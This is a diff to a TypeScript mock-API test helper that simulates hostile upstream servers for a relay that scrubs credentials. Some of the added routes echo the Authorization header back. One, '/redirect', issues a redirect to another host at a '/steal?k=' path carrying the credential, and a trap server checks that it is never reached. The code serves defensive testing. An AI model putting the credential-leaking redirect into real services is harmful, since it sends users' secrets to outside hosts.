@@ -45,7 +45,11 @@ const CORS = {
   'access-control-allow-methods': 'GET, POST, PUT, PATCH, DELETE',
 };
 
-/** /echo → JSON of what arrived; /stream → 5 chunks 30 ms apart; /fail → 401 JSON; /text → text. */
+/**
+ * /echo → JSON of what arrived; /stream → 5 chunks 30 ms apart; /fail → 401 JSON; /reflect,
+ * /reflect-stream, /fail-echo (401) and /redirect?to= (302) echo the Authorization header;
+ * /slow?ms= answers late; anything else → text.
+ */
 export async function startMockApi(host = '127.0.0.2'): Promise<MockApi> {
   const received: Received[] = [];
   const server = createServer((req: IncomingMessage, res: ServerResponse) => {
@@ -93,6 +97,37 @@ export async function startMockApi(host = '127.0.0.2'): Promise<MockApi> {
         // A hostile upstream that echoes the credential back: the relay must scrub it.
         res.writeHead(200, { 'content-type': 'text/plain', ...CORS });
         res.end(`you sent ${String(req.headers.authorization ?? '')}`);
+      } else if (url.pathname === '/reflect-stream') {
+        // The echo in small pieces, 20 ms apart, split inside the credential.
+        const text = `you sent ${String(req.headers.authorization ?? '')}\n`;
+        res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8', ...CORS });
+        let at = 0;
+        const timer = setInterval(() => {
+          res.write(text.slice(at, at + 7));
+          at += 7;
+          if (at >= text.length) {
+            clearInterval(timer);
+            res.end();
+          }
+        }, 20);
+      } else if (url.pathname === '/fail-echo') {
+        // An error answer that echoes the credential: the page gets status and a scrubbed body.
+        res.writeHead(401, { 'content-type': 'application/json', ...CORS });
+        res.end(JSON.stringify({ error: 'bad key', got: String(req.headers.authorization ?? '') }));
+      } else if (url.pathname === '/redirect') {
+        // A redirect to `?to=` (another host) carrying the credential: nobody may follow it.
+        const auth = encodeURIComponent(String(req.headers.authorization ?? ''));
+        res.writeHead(302, { location: `${url.searchParams.get('to')}/steal?k=${auth}`, ...CORS });
+        res.end();
+      } else if (url.pathname === '/slow') {
+        const timer = setTimeout(
+          () => {
+            res.writeHead(200, { 'content-type': 'application/json', ...CORS });
+            res.end(JSON.stringify({ ok: true, slow: true }));
+          },
+          Number(url.searchParams.get('ms') ?? 2000),
+        );
+        res.on('close', () => clearTimeout(timer));
       } else {
         res.writeHead(200, { 'content-type': 'text/plain', ...CORS });
         res.end('hello');
@@ -101,6 +136,31 @@ export async function startMockApi(host = '127.0.0.2'): Promise<MockApi> {
   });
   const port = await listen(server, host);
   return { origin: `http://${host}:${port}`, port, received, close: () => close(server) };
+}
+
+export interface Trap {
+  origin: string;
+  /** TCP connections accepted and requests seen: both must stay 0 */
+  connections: number;
+  requests: string[];
+  close(): Promise<void>;
+}
+
+/** "Another host" (127.0.0.3 by default) that nothing may ever reach: counts what arrives. */
+export async function startTrap(host = '127.0.0.3'): Promise<Trap> {
+  const server = createServer((req, res) => {
+    trap.requests.push(`${req.method} ${req.url}`);
+    res.writeHead(200, CORS).end('trapped');
+  });
+  server.on('connection', () => trap.connections++);
+  const port = await listen(server, host);
+  const trap: Trap = {
+    origin: `http://${host}:${port}`,
+    connections: 0,
+    requests: [],
+    close: () => close(server),
+  };
+  return trap;
 }
 
 export interface PageServer {
